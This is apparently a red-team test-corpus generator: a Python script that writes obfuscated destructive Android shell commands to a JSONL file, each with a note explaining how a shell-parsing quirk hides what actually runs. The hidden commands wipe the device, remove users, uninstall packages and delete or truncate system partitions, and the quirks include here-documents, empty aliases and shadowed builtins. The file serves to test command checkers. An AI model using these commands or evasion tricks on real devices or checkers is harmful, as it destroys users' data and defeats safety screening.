#!/usr/bin/env python3
"""Round 11, attacker r11a (shell language). Corpus as Python data -> corpus.jsonl.
No command text passes through a host shell; lines run only in the tests/sandbox jail."""
import json, pathlib
HERE = pathlib.Path(__file__).resolve().parent
M = (["mksh"], None)
B = (["busybox"], None)
L = []
def add(fam, cmd, note, shells=None, why=None):
    row = {"family": fam, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells; row["shells_why"] = why
    L.append(row)

# heredoc-args: operands AFTER the here-document operator on the same line
n = "Words after `<<EOF` on the same line are still operands of the command; the body is its stdin. "
add("heredoc-args", "tee <<'EOF' /system/build.prop >/dev/null\nro.build.type=user\nEOF",
    n + "tee copies the body into /system/build.prop (os). A reader that stops the command at `<<` sees only `tee`.")
add("heredoc-args", "dd <<EOF of=/dev/block/by-name/boot 2>/dev/null\nboot\nEOF",
    n + "dd's of= operand comes after the here-document operator: the body is written onto the boot partition (block).")
add("heredoc-args", "tee <<'EOF' /cache/recovery/command >/dev/null\n--wipe_data\nEOF",
    n + "tee writes `--wipe_data` into the recovery command file (recovery).")
add("heredoc-args", "xargs <<'EOF' -n1 pm uninstall\ncom.android.chrome\ncom.google.android.gm\ncom.google.android.youtube\ncom.whatsapp\nEOF",
    n + "xargs' own options and the utility `pm uninstall` follow the operator; 4 packages uninstalled (mass-package).")

# for-implicit: `for NAME do` / `for NAME; do` loops over "$@"
n = "A for loop with no `in` list iterates over the positional parameters. "
add("for-implicit", "set -- vendor odm; for d do rm -rf \"/$d\"; done",
    n + "`for d do` runs rm on /vendor and /odm (os). A reader expecting `in WORDS` sees an empty loop.")
add("for-implicit", "f() { for t; do rm -rf /data/user_de/$t/*; done; }; f 0",
    n + "`for t;` inside a function iterates over the function's arguments: user 0's app data (app-data).")
add("for-implicit", "f() { for p; do pm uninstall \"$p\"; done; }\nf $(pm list packages -3 | cut -d: -f2)",
    n + "The package set is computed on the device and passed as arguments; the loop has no visible list (mass-package).")

# comment-backslash: a backslash at the end of a comment does not continue it
n = "A comment ends at the newline even if it ends in a backslash: there is no line continuation inside a comment. "
add("comment-backslash", "# rotate logs, leave system alone \\\nrm -rf /system_ext",
    n + "The next line runs: /system_ext removed (os). A reader that joins backslash-newlines before stripping comments sees one long comment.")
add("comment-backslash", ": safe mode on # keep going \\\ncmd testharness enable",
    n + "A trailing comment after `:`; the next line `cmd testharness enable` runs (wipe).")
add("comment-backslash", "am force-stop com.example.app # then broadcast \\\nam broadcast -a android.intent.action.MASTER_CLEAR",
    n + "The MASTER_CLEAR broadcast on the next line is a command, not part of the comment (wipe).")

# compound-redirect: a redirection on a compound command happens even if its body never runs
n = "A redirection attached to a compound command is performed when the compound starts, even if its body never runs; `>` truncates. "
add("compound-redirect", "while false; do :; done >/vendor/build.prop",
    n + "The loop never iterates, yet /vendor/build.prop is truncated (os).")
add("compound-redirect", "for f in; do :; done >/odm/etc/build.prop",
    n + "An empty `for … in;` list: /odm/etc/build.prop is truncated (os).")
add("compound-redirect", "if false; then :; fi 2>/system/framework/framework.jar",
    n + "A stderr redirection on a dead `if`: framework.jar truncated (os).")
add("compound-redirect", "case x in y) ;; esac >/data/system/packages.xml",
    n + "A `case` with no matching pattern still truncates packages.xml (os).")

# empty-alias: an alias with an empty value makes its name vanish
n = "An alias whose value is empty expands to nothing, so the next word becomes the command name. "
add("empty-alias", "alias log=\nlog am broadcast -a android.intent.action.MASTER_CLEAR",
    n + "`log …` looks like Android's log tool printing text; it is `am broadcast … MASTER_CLEAR` (wipe).")
add("empty-alias", "alias echo=''\necho pm remove-user 10",
    n + "`echo pm remove-user 10` looks like printing; with echo aliased to nothing, pm runs (user).")
add("empty-alias", "alias dryrun=\ndryrun rm -rf /product",
    n + "`dryrun` looks like a dry-run wrapper; it is an empty alias, so rm removes /product (os).")

# unicode-escape (mksh): \u and \U in $'...'
mw = "mksh decodes \\u/\\U escapes in $'…'; busybox 1.35 sh leaves them as text"
n = "mksh's $'…' accepts \\uXXXX and \\UXXXXXXXX escapes (not only \\x and octal). "
add("unicode-escape", "rm -rf $'\\u002fvendor'", n + "\\u002f is `/`: rm -rf /vendor (os).", ["mksh"], mw)
add("unicode-escape", "am broadcast -a $'android.intent.action.\\u004dASTER_CLEAR'", n + "\\u004d is `M`: MASTER_CLEAR (wipe).", ["mksh"], mw)
add("unicode-escape", "pm $'\\u0072emove-user' 10", n + "\\u0072 is `r`: pm remove-user 10 (user).", ["mksh"], mw)
add("unicode-escape", "rm -rf $'\\U0000002fsystem_ext'", n + "The 8-digit form \\U0000002f is `/`: /system_ext (os).", ["mksh"], mw)

# bracket-escape: a backslash inside a bracket expression escapes the next char
n = "Inside a glob bracket expression a backslash quotes the next character, so `[\\v]` is the set {v}, not a vertical tab or {\\,v}. "
add("bracket-escape", "rm -rf /[\\v]endor", n + "Matches /vendor (os).")
add("bracket-escape", "rm -rf /data/[\\d]ata/*", n + "Matches /data/data/*: every app's data (app-data).")
add("bracket-escape", "rm -rf /data/[\\m]isc", n + "Matches /data/misc (os).")

# heredoc-keyword: delimiter words that are reserved words
n = "A here-document delimiter can be any word, including a reserved word; the first line that equals it ends the body, and the next one closes the compound. "
add("heredoc-keyword", "if true; then sh <<fi\nrm -rf /vendor\nfi\nfi",
    n + "`<<fi`: the first `fi` line ends the body given to sh (rm -rf /vendor, os); a reader that takes it as the `if`'s fi sees the rm outside any runner and a stray fi.")
add("heredoc-keyword", "for i in 1; do sh <<done\nrm -rf /odm\ndone\ndone",
    n + "`<<done` in a loop: the body `rm -rf /odm` goes to sh (os).")

# builtin-shadow: functions named true/false
n = "`true` and `false` are regular builtins, so a function of that name replaces them. "
add("builtin-shadow", "false() { :; }\nfalse && rm -rf /odm", n + "`false && …` looks dead; false now succeeds, so /odm is removed (os).")
add("builtin-shadow", "true() { return 1; }\ntrue || pm remove-user 10", n + "`true || …` looks dead; true now fails, so user 10 is removed (user).")
add("builtin-shadow", "false() { return 0; }\nif false; then rm -rf /system_ext; fi", n + "`if false` looks like a disabled block (os).")

# case-esac: esac as a case pattern
n = "`esac` in pattern position (after `(` or `|`) is a pattern word, not the end of the case. "
add("case-esac", "case esac in (esac) rm -rf /vendor;; esac", n + "The word `esac` matches the pattern `(esac)`, so rm runs (os). A reader that closes the case at the first `esac` sees nothing run.")
add("case-esac", "T=x; case $T in (x|esac) rm -rf /product;; esac", n + "`(x|esac)`: a reader ending the case at the `esac` inside the pattern misses the rm (os).")

# trap-signame: signal spellings
n = "trap accepts signal names in lower case, with a SIG prefix, and as numbers, and several at once. "
add("trap-signame", "trap 'rm -rf /vendor' exit", n + "Lower-case `exit` is the EXIT trap: /vendor removed when the shell ends (os).")
add("trap-signame", "trap 'rm -rf /odm' SIGEXIT", n + "`SIGEXIT` is EXIT too (os).")
add("trap-signame", "trap 'pm remove-user 10' sigterm; kill $$", n + "Lower-case `sigterm`: the TERM sent by `kill $$` runs the action (user).")
add("trap-signame", "trap 'cmd testharness enable' 15; kill $$", n + "Signal number 15 is TERM; `kill $$` triggers it (wipe).")

# heredoc-paren (mksh): `EOF)` ends a here-document inside $( )
pw = "mksh ends the body at the line `EOF)` and closes the substitution; busybox needs the delimiter alone on its line (syntax error)"
n = "Inside `$( )`, mksh ends the here-document at a line `EOF)`. "
add("heredoc-paren", "rm -rf $(cat <<'EOF'\n/vendor\nEOF)", n + "The substitution yields /vendor (os). A reader requiring `EOF` alone sees an unclosed here-document.", ["mksh"], pw)
add("heredoc-paren", "rm -rf $(cat <<'EOF'\n/system_ext\nEOF)", n + "Same, /system_ext (os).", ["mksh"], pw)

# until: inverted loop condition
n = "`until` runs its body while the condition FAILS. "
add("until-loop", "until false; do rm -rf /odm; break; done", n + "`until false` runs at once (os); a reader modelling it like `while false` sees a dead body.")
add("until-loop", "n=0; until [ $n -gt 0 ]; do pm remove-user 10; n=1; done", n + "The test fails on the first pass, so the body runs (user).")
add("until-loop", "until :; do :; done; until [ -d /data/local/tmp/never ]; do cmd testharness enable; break; done", n + "A first `until :` that never runs sets the pattern; the second's test fails so testharness is enabled (wipe).")

# subst-scope: definitions inside $( ) do not reach the shell
n = "A command substitution runs in a subshell: functions, options and aliases defined there do not exist afterwards. "
add("subst-scope", ": \"$(rm() { echo skip \"$@\"; })\"\nrm -rf /product", n + "The 'dry-run' rm function is defined only in the substitution; the real rm removes /product (os).")
add("subst-scope", ": \"$(set -f)\"\nrm -rf /data/data/*", n + "`set -f` in the substitution does not disable globbing for the rm: /data/data/* (app-data).")
add("subst-scope", "x=$(alias am='echo [dry-run] am')\nam broadcast -a android.intent.action.MASTER_CLEAR", n + "The dry-run alias lives in the subshell only; the broadcast is real (wipe).")

# heredoc-unclosed (busybox): an unclosed here-document runs to end of input
bw = "busybox sh takes the rest of the input as the body of an unclosed here-document; mksh refuses it (here document unclosed)"
n = "The here-document has no delimiter line; busybox uses everything to the end of the command as its body. "
add("heredoc-unclosed", "sh <<'EOF'\nrm -rf /system_ext", n + "sh runs rm -rf /system_ext (os).", ["busybox"], bw)
add("heredoc-unclosed", "xargs -n1 pm clear <<END\ncom.example.app\ncom.example.other\ncom.whatsapp\ncom.spotify.music", n + "Four packages cleared from an unterminated body (mass-package).", ["busybox"], bw)

# heredoc-order: two here-documents on two commands of one line
n = "Bodies of here-documents follow the line in the order of the operators, whichever command they belong to. "
add("heredoc-order", ": <<A; sh <<B\necho skip\nA\nrm -rf /vendor\nB", n + "The first body (`echo skip`) goes to `:`, the second (rm -rf /vendor) to sh (os).")
add("heredoc-order", "cat >/dev/null <<'A'; xargs -n1 pm clear <<'B'\nkeep list follows\nA\ncom.example.app\ncom.example.other\ncom.whatsapp\ncom.spotify.music\nB",
    n + "The second body is the package list fed to `xargs pm clear` (mass-package).")

# heredoc-delim-ws: delimiter lines with extra blanks do not end the body
n = "Only a line exactly equal to the delimiter ends the body (with `<<-`, after removing leading TABs only). "
add("heredoc-delim-ws", "sh <<'A'; : <<'B'\necho ok\nA \nrm -rf /vendor\nA\nB",
    n + "`A ` with a trailing space does not end sh's body, so rm -rf /vendor is fed to sh (os); `:` gets an empty body. A reader that trims lines gives the rm to `:`.")
add("heredoc-delim-ws", "sh <<-'A'; : <<'B'\n\techo ok\n    A\nrm -rf /product\nA\nB",
    n + "`<<-` strips tabs, not spaces: `    A` is body, so sh runs rm -rf /product (os).")
add("heredoc-delim-ws", "sh <<'A'; : <<'B'\necho ok\n A\npm remove-user 10\nA\nB",
    n + "A leading space: ` A` is body, so sh runs pm remove-user 10 (user).")

# heredoc-first: redirection before the command name / explicit fd 0
n = "A redirection may come before the command name, and `0<<` is the same as `<<`. "
add("heredoc-first", "<<'EOF' sh\nrm -rf /vendor\nEOF", n + "The here-document comes first and `sh` after it: sh runs the body (os).")
add("heredoc-first", "2>/dev/null <<EOF xargs -n1 pm uninstall\ncom.android.chrome\ncom.google.android.gm\ncom.google.android.youtube\ncom.whatsapp\nEOF",
    n + "Two redirections lead; the command is xargs pm uninstall over 4 packages (mass-package).")
add("heredoc-first", "sh 0<<'EOF'\npm remove-user 10\nEOF", n + "`0<<` with an explicit descriptor number (user).")

(HERE / "corpus.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
print(len(L), "lines")
